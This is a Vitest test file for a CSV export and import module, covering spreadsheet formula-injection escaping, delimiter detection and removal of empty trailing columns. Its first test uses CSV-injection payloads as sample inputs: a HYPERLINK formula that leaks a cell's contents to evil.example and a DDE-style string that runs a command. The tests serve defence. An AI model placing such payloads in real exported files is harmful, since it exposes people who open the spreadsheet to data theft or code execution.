import { describe, expect, it } from 'vitest';
import { csvCell, describeIgnored, dropEmptyTrailingColumns, markFormula, sniffDelimiter, unmarkFormula, writeCsv } from './csv.js';

describe('CSV cells safe to open in a spreadsheet', () => {
  it('puts an apostrophe before text that a spreadsheet would run as a formula', () => {
    const attack = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    expect(csvCell(attack)).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    for (const v of ['=1+1', '+cmd', '-2+3+cmd|\' /C calc\'!A0', '@SUM(A1)', '\tx', '\r\nx', '-', '+', '- a point'])
      expect(markFormula(v)).toBe(`'${v}`);
  });
  it('leaves numbers (votes -1, +1) and ordinary text alone', () => {
    for (const v of ['-1', '1', '0', '+3', '-0.5', '1e-3', '-12.', '', 'hello', ' =not at start', 'a=b', "'quoted", "it's"]) expect(markFormula(v)).toBe(v);
    expect(writeCsv(['vote', 'comment-body'], [['-1', 'a, b'], ['1', 'say "hi"']])).toBe('vote,comment-body\n-1,"a, b"\n1,"say ""hi"""\n');
  });
  it('marking is undone exactly, also for text that already starts with apostrophes', () => {
    const tricky = ['=x', "'=x", "''=x", "'-1", "''-1", '-1', "'", "'a", "''", '@', "'@", '\t', "'\t", "-1'", '=', 'plain'];
    for (const v of tricky) expect(unmarkFormula(markFormula(v))).toBe(v);
    // and random strings over the relevant alphabet
    const alphabet = ["'", '=', '+', '-', '@', '\t', '\r', '1', '.', 'e', 'a', ' '];
    let seed = 7;
    const rnd = () => ((seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31);
    for (let k = 0; k < 5000; k++) {
      const v = Array.from({ length: 1 + Math.floor(rnd() * 5) }, () => alphabet[Math.floor(rnd() * alphabet.length)]).join('');
      expect(unmarkFormula(markFormula(v))).toBe(v);
      // what is written never starts like a formula unless it is a plain number
      const w = markFormula(v);
      if (/^[=+\-@\t\r]/.test(w)) expect(w).toMatch(/^[+-]?(\d+\.?\d*|\.\d+)(e[+-]?\d+)?$/);
    }
  });
});

describe('CSV files saved by spreadsheets', () => {
  it('finds ; and tab separators, else comma', () => {
    expect(sniffDelimiter('category;name;min;max\r\na;b;1;2')).toBe(';');
    expect(sniffDelimiter('a\tb\tc\n')).toBe('\t');
    expect(sniffDelimiter('a,b,"x;y;z"\n')).toBe(',');
    expect(sniffDelimiter('single\n')).toBe(',');
  });
  it('drops trailing columns empty everywhere, keeps a blank header over values', () => {
    const r = dropEmptyTrailingColumns([['category', 'name', 'min', 'max', '', '', '', '', ''], ['age', '16-29', '1', '2', '', '', '', '', ''], ['age', '30+', '1', '2', '', ' ']]);
    expect(r.rows).toEqual([['category', 'name', 'min', 'max'], ['age', '16-29', '1', '2'], ['age', '30+', '1', '2']]);
    expect(r.dropped).toEqual([5, 6, 7, 8, 9]);
    expect(dropEmptyTrailingColumns([['a', ''], ['1', 'x']]).dropped).toEqual([]);
    expect(describeIgnored('The quotas CSV', { bom: true, emptyColumns: [5, 6, 7, 8, 9], delimiter: ';' })).toBe(
      'The quotas CSV: ignored 5 empty columns at the end (columns 5–9) and a byte-order mark at the start; read with semicolons as separators.',
    );
    expect(describeIgnored('votes.csv', { bom: false, emptyColumns: [3], delimiter: ',' })).toBe('votes.csv: ignored 1 empty column at the end (column 3).');
    expect(describeIgnored('The quotas CSV', { bom: false, emptyColumns: [], delimiter: ',' })).toBeNull();
  });
});
